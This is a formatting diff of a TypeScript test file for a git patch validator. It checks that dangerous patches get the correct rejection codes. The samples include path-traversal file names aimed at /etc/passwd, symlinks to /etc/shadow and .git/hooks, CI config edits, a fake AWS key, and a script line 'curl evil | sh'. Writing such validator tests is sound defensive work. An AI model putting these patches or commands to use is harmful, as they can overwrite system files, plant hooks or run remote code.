@@ -34,36 +34,92 @@ function symlinkPatch(path: string, target: string): string {
   ].join('\n');
 }
 
-const codes = (text: string, policy = {}): PatchCheckCode[] => checkPatchText(text, policy).reasons.map((r) => r.code);
+const codes = (text: string, policy = {}): PatchCheckCode[] =>
+  checkPatchText(text, policy).reasons.map((r) => r.code);
 
 /** Dangerous patches git accepts (`git apply --check` passes), each with the code we must give. */
 const acceptedByGit: readonly { name: string; patch: string; code: PatchCheckCode }[] = [
-  { name: 'backslash traversal', patch: addFile('..\\..\\etc\\passwd', ['root::0:0']), code: 'PATH_TRAVERSAL' },
-  { name: 'URL-encoded dots and slashes', patch: addFile('%2e%2e%2f%2e%2e%2fetc/passwd', ['x']), code: 'PATH_TRAVERSAL' },
+  {
+    name: 'backslash traversal',
+    patch: addFile('..\\..\\etc\\passwd', ['root::0:0']),
+    code: 'PATH_TRAVERSAL',
+  },
+  {
+    name: 'URL-encoded dots and slashes',
+    patch: addFile('%2e%2e%2f%2e%2e%2fetc/passwd', ['x']),
+    code: 'PATH_TRAVERSAL',
+  },
   { name: 'double URL encoding', patch: addFile('%252e%252e%252fetc/passwd', ['x']), code: 'PATH_TRAVERSAL' },
   { name: 'fullwidth dots', patch: addFile('\uff0e\uff0e/secret', ['x']), code: 'PATH_TRAVERSAL' },
   { name: 'division slash', patch: addFile('..\u2215etc', ['x']), code: 'PATH_TRAVERSAL' },
-  { name: 'overlong UTF-8 dots (C-quoted bytes)', patch: addFile('a/\u0000', ['x']).replace(/"a\/a\/\\000"/g, '"a/a/\\300\\256\\300\\256"').replace(/"b\/a\/\\000"/g, '"b/a/\\300\\256\\300\\256"'), code: 'PATH_TRAVERSAL' },
-  { name: 'symlink pointing outside', patch: symlinkPatch('link', '../../../../etc/passwd'), code: 'SYMLINK' },
+  {
+    name: 'overlong UTF-8 dots (C-quoted bytes)',
+    patch: addFile('a/\u0000', ['x'])
+      .replace(/"a\/a\/\\000"/g, '"a/a/\\300\\256\\300\\256"')
+      .replace(/"b\/a\/\\000"/g, '"b/a/\\300\\256\\300\\256"'),
+    code: 'PATH_TRAVERSAL',
+  },
+  {
+    name: 'symlink pointing outside',
+    patch: symlinkPatch('link', '../../../../etc/passwd'),
+    code: 'SYMLINK',
+  },
   { name: 'absolute symlink', patch: symlinkPatch('link', '/etc/shadow'), code: 'SYMLINK' },
   { name: 'symlink into .git', patch: symlinkPatch('hooks', '.git/hooks'), code: 'SYMLINK' },
-  { name: 'workflow file without approval', patch: addFile('.github/workflows/ci.yml', ['on: push']), code: 'PROTECTED_PATH' },
+  {
+    name: 'workflow file without approval',
+    patch: addFile('.github/workflows/ci.yml', ['on: push']),
+    code: 'PROTECTED_PATH',
+  },
   { name: 'GitLab CI config', patch: addFile('.gitlab-ci.yml', ['test: {}']), code: 'PROTECTED_PATH' },
-  { name: 'CircleCI config', patch: addFile('.circleci/config.yml', ['version: 2.1']), code: 'PROTECTED_PATH' },
+  {
+    name: 'CircleCI config',
+    patch: addFile('.circleci/config.yml', ['version: 2.1']),
+    code: 'PROTECTED_PATH',
+  },
   { name: 'lockfile', patch: addFile('pnpm-lock.yaml', ["lockfileVersion: '9.0'"]), code: 'PROTECTED_PATH' },
-  { name: 'new executable', patch: addFile('scripts/run.sh', ['#!/bin/sh', 'curl evil | sh'], '100755'), code: 'EXECUTABLE_BIT' },
+  {
+    name: 'new executable',
+    patch: addFile('scripts/run.sh', ['#!/bin/sh', 'curl evil | sh'], '100755'),
+    code: 'EXECUTABLE_BIT',
+  },
   { name: '.gitmodules', patch: addFile('.gitmodules', ['[submodule "x"]']), code: 'GIT_DIR' },
   {
     name: 'gitlink (submodule entry)',
-    patch: ['diff --git a/vendor/lib b/vendor/lib', 'new file mode 160000', 'index 0000000..1234567', '--- /dev/null', '+++ b/vendor/lib', '@@ -0,0 +1 @@', '+Subproject commit 1234567890123456789012345678901234567890', ''].join('\n'),
+    patch: [
+      'diff --git a/vendor/lib b/vendor/lib',
+      'new file mode 160000',
+      'index 0000000..1234567',
+      '--- /dev/null',
+      '+++ b/vendor/lib',
+      '@@ -0,0 +1 @@',
+      '+Subproject commit 1234567890123456789012345678901234567890',
+      '',
+    ].join('\n'),
     code: 'GITLINK',
   },
   {
     name: 'binary blob',
-    patch: ['diff --git a/blob.bin b/blob.bin', 'new file mode 100644', 'index 0000000000000000000000000000000000000000..bfa7018e30c510999bbe462316bdd3839a58aa56', 'GIT binary patch', 'literal 5', 'McmZQzWcvRP00RpG0RR91', '', 'literal 0', 'HcmV?d00001', '', ''].join('\n'),
+    patch: [
+      'diff --git a/blob.bin b/blob.bin',
+      'new file mode 100644',
+      'index 0000000000000000000000000000000000000000..bfa7018e30c510999bbe462316bdd3839a58aa56',
+      'GIT binary patch',
+      'literal 5',
+      'McmZQzWcvRP00RpG0RR91',
+      '',
+      'literal 0',
+      'HcmV?d00001',
+      '',
+      '',
+    ].join('\n'),
     code: 'BINARY',
   },
-  { name: 'AWS key in an added line', patch: addFile('src/config.ts', ["export const key = 'AKIAIOSFODNN7QWERTYU';"]), code: 'SECRET' },
+  {
+    name: 'AWS key in an added line',
+    patch: addFile('src/config.ts', ["export const key = 'AKIAIOSFODNN7QWERTYU';"]),
+    code: 'SECRET',
+  },
 ];
 
 describe('dangerous patches that git apply --check accepts', () => {
@@ -85,7 +141,11 @@ describe('patches git rejects are rejected with a code of ours too', () => {
     { name: '.GIT in another case', patch: addFile('sub/.GIT/config', ['x']), code: 'GIT_DIR' },
     { name: 'NTFS short name GIT~1', patch: addFile('GIT~1/config', ['x']), code: 'GIT_DIR' },
     { name: 'absolute path', patch: addFile('/etc/passwd', ['x']), code: 'ABSOLUTE_PATH' },
-    { name: 'write through a symlink created by the same patch', patch: symlinkPatch('out', '../..') + addFile('out/evil', ['x']), code: 'SYMLINK' },
+    {
+      name: 'write through a symlink created by the same patch',
+      patch: symlinkPatch('out', '../..') + addFile('out/evil', ['x']),
+      code: 'SYMLINK',
+    },
   ];
   for (const c of rejectedByGit) {
     it(`${c.name}: ${c.code}`, async () => {
@@ -98,7 +158,9 @@ describe('patches git rejects are rejected with a code of ours too', () => {
 
 describe('policy checks', () => {
   it('benign patches pass', async () => {
-    const v = await validatePatch(addFile('src/hello.ts', ['export const hello = 1;']), { targets: ['src/'] });
+    const v = await validatePatch(addFile('src/hello.ts', ['export const hello = 1;']), {
+      targets: ['src/'],
+    });
     expect(v.reasons).toEqual([]);
     expect(v.ok).toBe(true);
     expect(v.files[0]).toMatchObject({ path: 'src/hello.ts', operation: 'add', added: 1 });
@@ -107,7 +169,8 @@ describe('policy checks', () => {
 
   it('outside targets, also for the old name of a rename', () => {
     expect(codes(addFile('lib/x.ts', ['x']), { targets: ['src/**'] })).toEqual(['OUTSIDE_TARGETS']);
-    const rename = 'diff --git a/secret/x b/src/x\nsimilarity index 100%\nrename from secret/x\nrename to src/x\n';
+    const rename =
+      'diff --git a/secret/x b/src/x\nsimilarity index 100%\nrename from secret/x\nrename to src/x\n';
     expect(checkPatchText(rename, { targets: ['src/'] }).reasons).toEqual([
       expect.objectContaining({ code: 'OUTSIDE_TARGETS', path: 'secret/x' }),
     ]);
@@ -118,7 +181,9 @@ describe('policy checks', () => {
     const before = checkPatchText(patch);
     expect(before.needsApproval).toBe(true);
     expect(checkPatchText(patch, { approved: ['.github/workflows/**'] }).ok).toBe(true);
-    expect(checkPatchText(addFile('.GitHub/Workflows/x.yml', ['x'])).reasons.map((r) => r.code)).toEqual(['PROTECTED_PATH']);
+    expect(checkPatchText(addFile('.GitHub/Workflows/x.yml', ['x'])).reasons.map((r) => r.code)).toEqual([
+      'PROTECTED_PATH',
+    ]);
   });
 
   it('caps: file count and size', () => {
@@ -130,7 +195,9 @@ describe('policy checks', () => {
   it('declared operations must match the patch', () => {
     const patch = addFile('src/a.ts', ['x']);
     expect(codes(patch, { declared: [{ path: 'src/a.ts', operation: 'add' }] })).toEqual([]);
-    expect(codes(patch, { declared: [{ path: 'src/a.ts', operation: 'update' }] })).toEqual(['OPERATION_MISMATCH']);
+    expect(codes(patch, { declared: [{ path: 'src/a.ts', operation: 'update' }] })).toEqual([
+      'OPERATION_MISMATCH',
+    ]);
     expect(codes(patch, { declared: [{ path: 'src/b.ts', operation: 'delete' }] })).toEqual([
       'OPERATION_MISMATCH',
       'OPERATION_MISMATCH',
@@ -190,7 +257,8 @@ describe('against a worktree', () => {
   });
 
   it('runs git apply --check against the worktree: a context mismatch is GIT_APPLY_REJECTED', async () => {
-    const good = 'diff --git a/src/a.txt b/src/a.txt\n--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1 +1 @@\n-one\n+two\n';
+    const good =
+      'diff --git a/src/a.txt b/src/a.txt\n--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1 +1 @@\n-one\n+two\n';
     const ok = await validatePatch(good, {}, { worktree });
     expect(ok.git).toMatchObject({ ran: true, accepted: true, mode: 'worktree' });
     expect(ok.ok).toBe(true);
